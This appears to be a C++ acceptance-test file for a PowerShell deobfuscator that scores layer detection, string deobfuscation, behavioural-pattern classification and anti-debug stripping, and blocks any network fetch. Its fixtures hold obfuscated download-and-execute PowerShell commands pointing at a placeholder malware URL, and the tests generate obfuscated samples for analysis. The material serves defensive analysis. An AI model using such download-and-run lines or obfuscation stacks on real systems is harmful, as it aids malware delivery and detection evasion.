// Acceptance run: one PASS/FAIL line per criterion, exit status 0 only
// when every criterion holds. A fetch client that aborts the process is
// installed for the whole run; every analysis uses RecordOnly.

#include "psdeob/cli.hpp"
#include "psdeob/decoder.hpp"
#include "psdeob/detector.hpp"
#include "psdeob/obfuscator.hpp"
#include "psdeob/pipeline.hpp"
#include "psdeob/preprocess.hpp"
#include "psdeob/stringdeobf.hpp"

#include "json.hpp"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <set>
#include <sstream>

namespace fs = std::filesystem;
using namespace psdeob;

namespace {

std::atomic<int> g_client_calls{0};

class PanickingClient final : public FetchClient {
public:
    FetchResult fetch(const std::string& url, double, std::size_t) override {
        ++g_client_calls;
        std::fprintf(stderr, "network fetch attempted for %s under RecordOnly\n", url.c_str());
        std::abort();
    }
};

FetchPolicy safe_policy() {
    FetchPolicy p;
    p.mode = FetchPolicy::Mode::RecordOnly;
    p.client = std::make_shared<PanickingClient>();
    return p;
}

int g_failures = 0;

void report(int id, std::string_view name, bool pass, const std::string& detail) {
    std::cout << "C" << id << " " << (pass ? "PASS" : "FAIL") << " " << name << ": " << detail << std::endl;
    if (!pass) ++g_failures;
}

class Stopwatch {
public:
    double seconds() const {
        return std::chrono::duration<double>(std::chrono::steady_clock::now() - start_).count();
    }

private:
    std::chrono::steady_clock::time_point start_ = std::chrono::steady_clock::now();
};

std::string fmt_time(double s, double limit) {
    char buf[64];
    std::snprintf(buf, sizeof buf, "%.3f s (limit %.0f s)", s, limit);
    return buf;
}

/// Lowercase, whitespace runs collapsed, ends trimmed.
std::string normalized(std::string_view s) {
    std::string out;
    bool space = false;
    for (char c : s) {
        if (c == ' ' || c == '\t' || c == '\r' || c == '\n') {
            space = !out.empty();
            continue;
        }
        if (space) out.push_back(' ');
        space = false;
        out.push_back(static_cast<char>(std::tolower(static_cast<unsigned char>(c))));
    }
    return out;
}

std::string read(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::ostringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

ScriptText fixture(const std::string& rel) {
    return ScriptText::from_text(read(fs::path(PSDEOB_FIXTURES) / rel), rel);
}

// ---- C1 -------------------------------------------------------------------

struct GoldenRow {
    std::string_view type;
    std::string obfuscated;
    std::string original;
};

void c1_golden_table(const FetchPolicy& policy) {
    const std::vector<GoldenRow> rows{
        {"Conc.", R"("http://" + 'example.com' + '/malware.exe')", "'http://example.com/malware.exe'"},
        {"Conc.", "$a = 'http://'; $b = 'example.com'; $c = '/malware.exe'; $a + $b + $c",
         "'http://example.com/malware.exe'"},
        {"Reor.", "'{1}{0}{2}' -f 'example.com', 'http://', '/malware.exe'", "'http://example.com/malware.exe'"},
        {"Tick", "S`tart-P``roce`ss 'malware.exe'", "Start-Process 'malware.exe'"},
        {"Eval.", "&('New' + '-Object')", "New-Object"},
        {"Eval.", "&('{1}{0}' -f '-Object', 'New')", "New-Object"},
        {"Case", "nEW-oBjECt", "New-Object"},
        {"White", "$variable    = $env:USERPROFILE    +    '\\malware.exe'", "$variable = $env:USERPROFILE + '\\malware.exe'"},
        {"Base64", "U3RhcnQtUHJvY2VzcyAibWFsd2FyZS5leGUi", "Start-Process \"malware.exe\""},
        {"Comp.",
         ".((VaRIAbLE '*Mdr*').nAme[3,11,2]-JoIn'')(neW-obJecT io.StreAMReadER((neW-obJecT "
         "sySTEM.io.CoMPRESSION.DEfLAtestrEaM([sYStem.Io.MeMoRystReam][SYstEm.COnveRt]::frOmBase64sTrinG("
         "'BcE7DoAgEAXAqxgqKITeVmssLKwXfFHM8gnZBI/vjPYY8x5eRJk8xJ4IKycUMXaro3Cl65Ceyq3VI9IW5/BRbgwba3aZeFCHxQdlfg=='),"
         "[SYstEm.io.COMpResSioN.cOMprEssiONMOde]::DeCOMPresS)),[TeXt.ENCoDInG]::AsCIi)).ReaDtoend()",
         "(New-Object Net.WebClient).DownloadString(\"http://example.com/malware.exe\")"},
    };
    Stopwatch sw;
    int ok = 0;
    std::string misses;
    for (const auto& r : rows) {
        const AnalysisReport rep = analyze(ScriptText::from_text(r.obfuscated, std::string(r.type)), policy);
        const bool hit = !rep.stages.empty() &&
                         normalized(rep.stages.back().output_script.content) == normalized(r.original);
        if (hit) {
            ++ok;
        } else {
            misses += " [" + std::string(r.type) + " -> " +
                      (rep.stages.empty() ? std::string("no stage") : rep.stages.back().output_script.content) + "]";
        }
    }
    const double t = sw.seconds();
    report(1, "golden_table", ok == static_cast<int>(rows.size()) && t < 1.0,
           std::to_string(ok) + "/" + std::to_string(rows.size()) + " rows inverted, " + fmt_time(t, 1) + misses);
}

// ---- C2 -------------------------------------------------------------------

void c2_multistage(const FetchPolicy& policy) {
    Stopwatch sw;
    const ScriptText original = ScriptText::from_text(
        "(New-Object System.Net.WebClient).DownloadFile('http://example.com/malware.exe', 'C:\\malware.exe'); "
        "Start-Process 'C:\\malware.exe'",
        "multistage");
    const auto stack = parse_layer_spec("string:reorder+tick+concat>binary>deflate");
    const auto [sample, label] = obfuscate_layers(original, stack, 3);
    const AnalysisReport rep = analyze(sample, policy);
    const double t = sw.seconds();

    const std::vector<std::string> want_layers{"Compressed/Deflate", "Encoded/Binary", "StringBased"};
    std::vector<std::string> got_layers;
    for (const auto& s : rep.stages) got_layers.push_back(describe(s.layer));
    const bool pattern = rep.pattern == BehavioralPattern::DownExec;
    const bool ioc = std::any_of(rep.iocs.begin(), rep.iocs.end(), [](const Ioc& i) {
        return i.kind == IocKind::Url && i.defanged == "hxxp://example[.]com/malware.exe";
    });
    const bool recovered = token_equivalent(rep.final_script.content, original.content);
    std::string layers;
    for (const auto& l : got_layers) layers += (layers.empty() ? "" : " > ") + l;
    report(2, "multistage_poc",
           rep.stages.size() >= 3 && got_layers == want_layers && pattern && ioc && recovered && t < 1.0,
           std::to_string(rep.stages.size()) + " stages [" + layers + "], pattern " +
               (rep.pattern ? std::string(to_string(*rep.pattern)) : "none") + ", defanged URL IOC " +
               (ioc ? "present" : "missing") + ", original " + (recovered ? "recovered" : "NOT recovered") + ", " +
               fmt_time(t, 1));
}

// ---- C3 / C4 --------------------------------------------------------------

LayerType expected_layer(TechniqueTag t) {
    switch (t) {
        case TechniqueTag::Base64Encoding: return LayerType::encoded(LayerType::Encoding::Base64);
        case TechniqueTag::BinaryEncoding: return LayerType::encoded(LayerType::Encoding::Binary);
        case TechniqueTag::DeflateCompression: return LayerType::compressed(LayerType::Compression::Deflate);
        case TechniqueTag::GzipCompression: return LayerType::compressed(LayerType::Compression::Gzip);
        default: return LayerType::string_based();
    }
}

struct AgreementTally {
    std::size_t checked = 0;
    std::size_t agreed = 0;
    std::size_t fixed_checked = 0;
    std::size_t fixed_ok = 0;
    std::vector<std::string> notes;
    void note(std::string s) {
        if (notes.size() < 5) notes.push_back(std::move(s));
    }
};

void c3_c4_roundtrip(const FetchPolicy& policy) {
    Stopwatch sw;
    AgreementTally agree;
    constexpr std::size_t kPerTechnique = 1000;
    constexpr std::size_t kStacks = 1000;

    std::string per_tech;
    bool per_tech_ok = true;
    std::size_t total_na = 0;
    const auto names = template_names();
    for (auto tech : kAllTechniques) {
        std::size_t applied = 0, inverted = 0, na = 0;
        for (std::uint64_t seed = 0; applied < kPerTechnique && seed < 5 * kPerTechnique; ++seed) {
            std::mt19937_64 rng(seed);
            const CleanSample clean = clean_template(static_cast<std::size_t>(seed % names.size()), rng);
            ScriptText out;
            try {
                out = obfuscate(clean.script, tech, seed);
            } catch (const NotApplicable&) {
                ++na;
                continue;
            }
            ++applied;
            const LayerFinding f = detect_layer(out);
            ++agree.checked;
            if (f.layer == expected_layer(tech)) {
                ++agree.agreed;
            } else {
                agree.note(std::string(to_string(tech)) + " seed " + std::to_string(seed) + " detected " +
                           describe(f.layer));
            }
            bool ok = !syntax_check(out).has_value();
            ScriptText back;
            if (is_string_technique(tech)) {
                back = deobfuscate_strings(out).output;
                ok = ok && token_equivalent(back.content, clean.script.content);
            } else {
                try {
                    back = peel(out, f);
                    ok = ok && back.content == clean.script.content;
                } catch (const DecodeError&) {
                    ok = false;
                }
            }
            ++agree.fixed_checked;
            if (detect_layer(back).layer.is_clean()) {
                ++agree.fixed_ok;
            } else {
                agree.note(std::string(to_string(tech)) + " seed " + std::to_string(seed) + " inverse not Clean");
            }
            if (ok) ++inverted;
        }
        total_na += na;
        per_tech_ok = per_tech_ok && applied >= kPerTechnique && inverted == applied;
        per_tech += " " + std::string(to_string(tech)) + "=" + std::to_string(inverted) + "/" + std::to_string(applied);
    }

    const GeneratedCorpus corpus = generate_corpus(kStacks, 2024);
    std::size_t recovered = 0;
    std::vector<std::string> failures;
    for (const auto& s : corpus.samples) {
        ++agree.checked;
        const LayerType outer = detect_layer(s.script).layer;
        if (outer == s.label.outer()) {
            ++agree.agreed;
        } else {
            agree.note(s.file_name + " labelled " + describe(s.label.outer()) + " detected " + describe(outer));
        }
        const AnalysisReport rep = analyze(s.script, policy);
        bool ok = rep.status == AnalysisStatus::Complete && rep.stages.size() == s.label.layers.size() &&
                  token_equivalent(rep.final_script.content, s.original.content);
        for (std::size_t i = 0; ok && i < rep.stages.size(); ++i) {
            ok = rep.stages[i].layer == s.label.layers[s.label.layers.size() - 1 - i].layer;
        }
        ++agree.fixed_checked;
        if (detect_layer(rep.final_script).layer.is_clean()) {
            ++agree.fixed_ok;
        } else {
            agree.note(s.file_name + " final script not Clean");
        }
        if (ok) {
            ++recovered;
        } else if (failures.size() < 5) {
            failures.push_back(s.file_name + " (" + format_layer_spec(s.label.layers) + ", " + s.template_name + ")" +
                               (rep.abort_reason ? " " + *rep.abort_reason : ""));
        }
    }
    const double t = sw.seconds();
    const double rate = static_cast<double>(recovered) / static_cast<double>(corpus.samples.size());
    char pct[32];
    std::snprintf(pct, sizeof pct, "%.2f%%", 100.0 * rate);
    std::string fail_list;
    for (const auto& f : failures) fail_list += " [" + f + "]";
    report(3, "roundtrip",
           per_tech_ok && corpus.samples.size() >= kStacks && rate >= 0.95 && t < 60.0,
           "per technique (inverted/applied):" + per_tech + "; " + std::to_string(total_na) +
               " NotApplicable draws skipped; stacks recovered " + std::to_string(recovered) + "/" +
               std::to_string(corpus.samples.size()) + " = " + pct + " (>= 95%), " +
               std::to_string(corpus.skipped.size()) + " NotApplicable stack draws logged; " + fmt_time(t, 60) +
               fail_list);
    for (const auto& line : corpus.skipped) std::cerr << "  NotApplicable: " << line << "\n";

    std::string notes;
    for (const auto& n : agree.notes) notes += " [" + n + "]";
    report(4, "detector_oracle",
           agree.agreed == agree.checked && agree.fixed_ok == agree.fixed_checked && agree.checked > 0,
           "outer layer agrees " + std::to_string(agree.agreed) + "/" + std::to_string(agree.checked) +
               ", Clean fixed point " + std::to_string(agree.fixed_ok) + "/" + std::to_string(agree.fixed_checked) +
               notes);
}

// ---- C5 -------------------------------------------------------------------

void c5_patterns(const FetchPolicy& policy) {
    const std::vector<std::pair<std::string, BehavioralPattern>> cases{
        {"patterns/downexec.ps1", BehavioralPattern::DownExec},   {"patterns/downshell.ps1", BehavioralPattern::DownShell},
        {"patterns/execshell.ps1", BehavioralPattern::ExecShell}, {"patterns/execvar.ps1", BehavioralPattern::ExecVar},
        {"patterns/shellkill.ps1", BehavioralPattern::ShellKill}, {"patterns/memexec.ps1", BehavioralPattern::MemExec},
        {"patterns/superset.ps1", BehavioralPattern::Unclassified},
    };
    int ok = 0;
    std::string detail;
    for (const auto& [file, want] : cases) {
        const AnalysisReport rep = analyze(fixture(file), policy);
        const bool hit = rep.pattern == want;
        ok += hit ? 1 : 0;
        detail += " " + fs::path(file).stem().string() + "=" +
                  (rep.pattern ? std::string(to_string(*rep.pattern)) : "none") + (hit ? "" : "(want " + std::string(to_string(want)) + ")");
    }
    report(5, "pattern_fixtures", ok == static_cast<int>(cases.size()),
           std::to_string(ok) + "/" + std::to_string(cases.size()) + ":" + detail);
}

// ---- C6 -------------------------------------------------------------------

void c6_antidebug(const FetchPolicy& policy) {
    const std::vector<std::pair<std::string, AntiDebug>> cases{
        {"antidebug/sleep.ps1", AntiDebug::Sleep},
        {"antidebug/outnull.ps1", AntiDebug::OutNullRedirect},
        {"antidebug/infinite_loop.ps1", AntiDebug::InfiniteLoop},
        {"antidebug/trycatch.ps1", AntiDebug::TryCatch},
    };
    int ok = 0;
    std::string detail;
    for (const auto& [file, kind] : cases) {
        const ScriptText in = fixture(file);
        const AntiDebugResult r = strip_antidebug(in);
        const bool removed = std::any_of(r.removed.begin(), r.removed.end(),
                                         [&](const AntiDebugRemoval& x) { return x.kind == kind; });
        const bool syntax = !syntax_check(r.script).has_value();
        const AnalysisReport rep = analyze(in, policy);
        const bool reported = std::find(rep.anti_debug_removed.begin(), rep.anti_debug_removed.end(), kind) !=
                              rep.anti_debug_removed.end();
        const bool hit = removed && syntax && reported;
        ok += hit ? 1 : 0;
        detail += " " + std::string(to_string(kind)) + "=" + (hit ? "ok" : "FAILED");
    }
    report(6, "antidebug", ok == static_cast<int>(cases.size()),
           std::to_string(ok) + "/" + std::to_string(cases.size()) + ":" + detail);
}

// ---- C7 -------------------------------------------------------------------

bool c7_sandbox_run(const FetchPolicy& policy, std::string& detail) {
    const fs::path fixtures = fs::absolute(PSDEOB_FIXTURES);
    const fs::path scratch = fs::temp_directory_path() / ("psdeob_c7_" + std::to_string(::getpid()));
    fs::remove_all(scratch);
    fs::create_directories(scratch);
    const fs::path cwd = fs::current_path();
    fs::current_path(scratch);
    std::size_t analyzed = 0;
    std::size_t downloads = 0;
    bool all_skipped = true;
    for (const auto& e : fs::recursive_directory_iterator(fixtures)) {
        if (!e.is_regular_file() || e.path().extension() != ".ps1") continue;
        const AnalysisReport rep = analyze(ScriptText::from_text(read(e.path()), e.path().filename().string()), policy);
        ++analyzed;
        for (const auto& f : rep.fetches) {
            ++downloads;
            all_skipped = all_skipped && f.status == FetchOutcome::Status::Skipped;
        }
    }
    fs::current_path(cwd);
    const bool untouched = fs::is_empty(scratch);
    fs::remove_all(scratch);
    detail = std::to_string(analyzed) + " fixtures emulated in a scratch directory (" +
             (untouched ? "left empty" : "FILES CREATED") + "), " + std::to_string(downloads) +
             " download(s) recorded" + (all_skipped ? " and skipped" : ", some NOT skipped");
    return untouched && all_skipped;
}

// ---- C8 -------------------------------------------------------------------

std::pair<int, std::string> cli(const std::vector<std::string>& args) {
    std::istringstream in;
    std::ostringstream out;
    std::ostringstream err;
    const int rc = run_cli(args, in, out, err);
    return {rc, out.str() + err.str()};
}

void c8_corpus_stats() {
    const fs::path root = fs::temp_directory_path() / ("psdeob_c8_" + std::to_string(::getpid()));
    fs::remove_all(root);
    const std::string gen = (root / "gen").string();
    const auto g = cli({"gen", gen, "--count", "200", "--seed", "11"});
    const auto r1 = cli({"corpus", gen, "--jobs", "1", "--stats", (root / "s1.json").string(), "--csv",
                         (root / "csv1").string()});
    const auto r8 = cli({"corpus", gen, "--jobs", "8", "--stats", (root / "s8.json").string(), "--csv",
                         (root / "csv8").string()});
    bool ok = g.first == 0 && r1.first == 0 && r8.first == 0;
    const std::string s1 = read(root / "s1.json");
    const std::string s8 = read(root / "s8.json");
    bool identical = ok && s1 == s8 && r1.second == r8.second;
    for (const char* f : {"layers.csv", "layer_types.csv", "anti_debug.csv"}) {
        identical = identical && read(root / "csv1" / f) == read(root / "csv8" / f);
    }
    bool histograms = false;
    std::size_t samples = 0;
    if (ok) {
        const auto labels = nlohmann::json::parse(read(fs::path(gen) / "labels.json"));
        const auto stats = nlohmann::json::parse(s1);
        std::map<std::string, std::size_t> want_stages;
        std::map<std::string, std::size_t> want_types;
        for (const auto& [file, l] : labels.items()) {
            ++samples;
            ++want_stages[std::to_string(l["layers"].size())];
            for (const auto& layer : l["layers"]) ++want_types[layer["variant"].get<std::string>()];
        }
        const auto got_stages = stats["stage_counts"].get<std::map<std::string, std::size_t>>();
        const auto got_types = stats["layer_types"].get<std::map<std::string, std::size_t>>();
        histograms = got_stages == want_stages && got_types == want_types && samples == 200;
    }
    fs::remove_all(root);
    report(8, "corpus_stats", ok && identical && histograms,
           std::to_string(samples) + " generated samples; stage-count and layer-type histograms " +
               (histograms ? "equal the labels" : "DIFFER from the labels") + "; --jobs 1 vs --jobs 8 summaries " +
               (identical ? "byte-identical" : "DIFFER"));
}

}  // namespace

int main() {
    const FetchPolicy policy = safe_policy();
    c1_golden_table(policy);
    c2_multistage(policy);
    c3_c4_roundtrip(policy);
    c5_patterns(policy);
    c6_antidebug(policy);
    std::string c7;
    const bool c7_ok = c7_sandbox_run(policy, c7);
    c8_corpus_stats();
    report(7, "safety", c7_ok && g_client_calls.load() == 0,
           "panicking fetch client installed for the whole run under RecordOnly, called " +
               std::to_string(g_client_calls.load()) + " time(s); " + c7);
    std::cout << (g_failures == 0 ? "ALL CRITERIA PASS" : std::to_string(g_failures) + " CRITERIA FAILED") << std::endl;
    return g_failures == 0 ? 0 : 1;
}
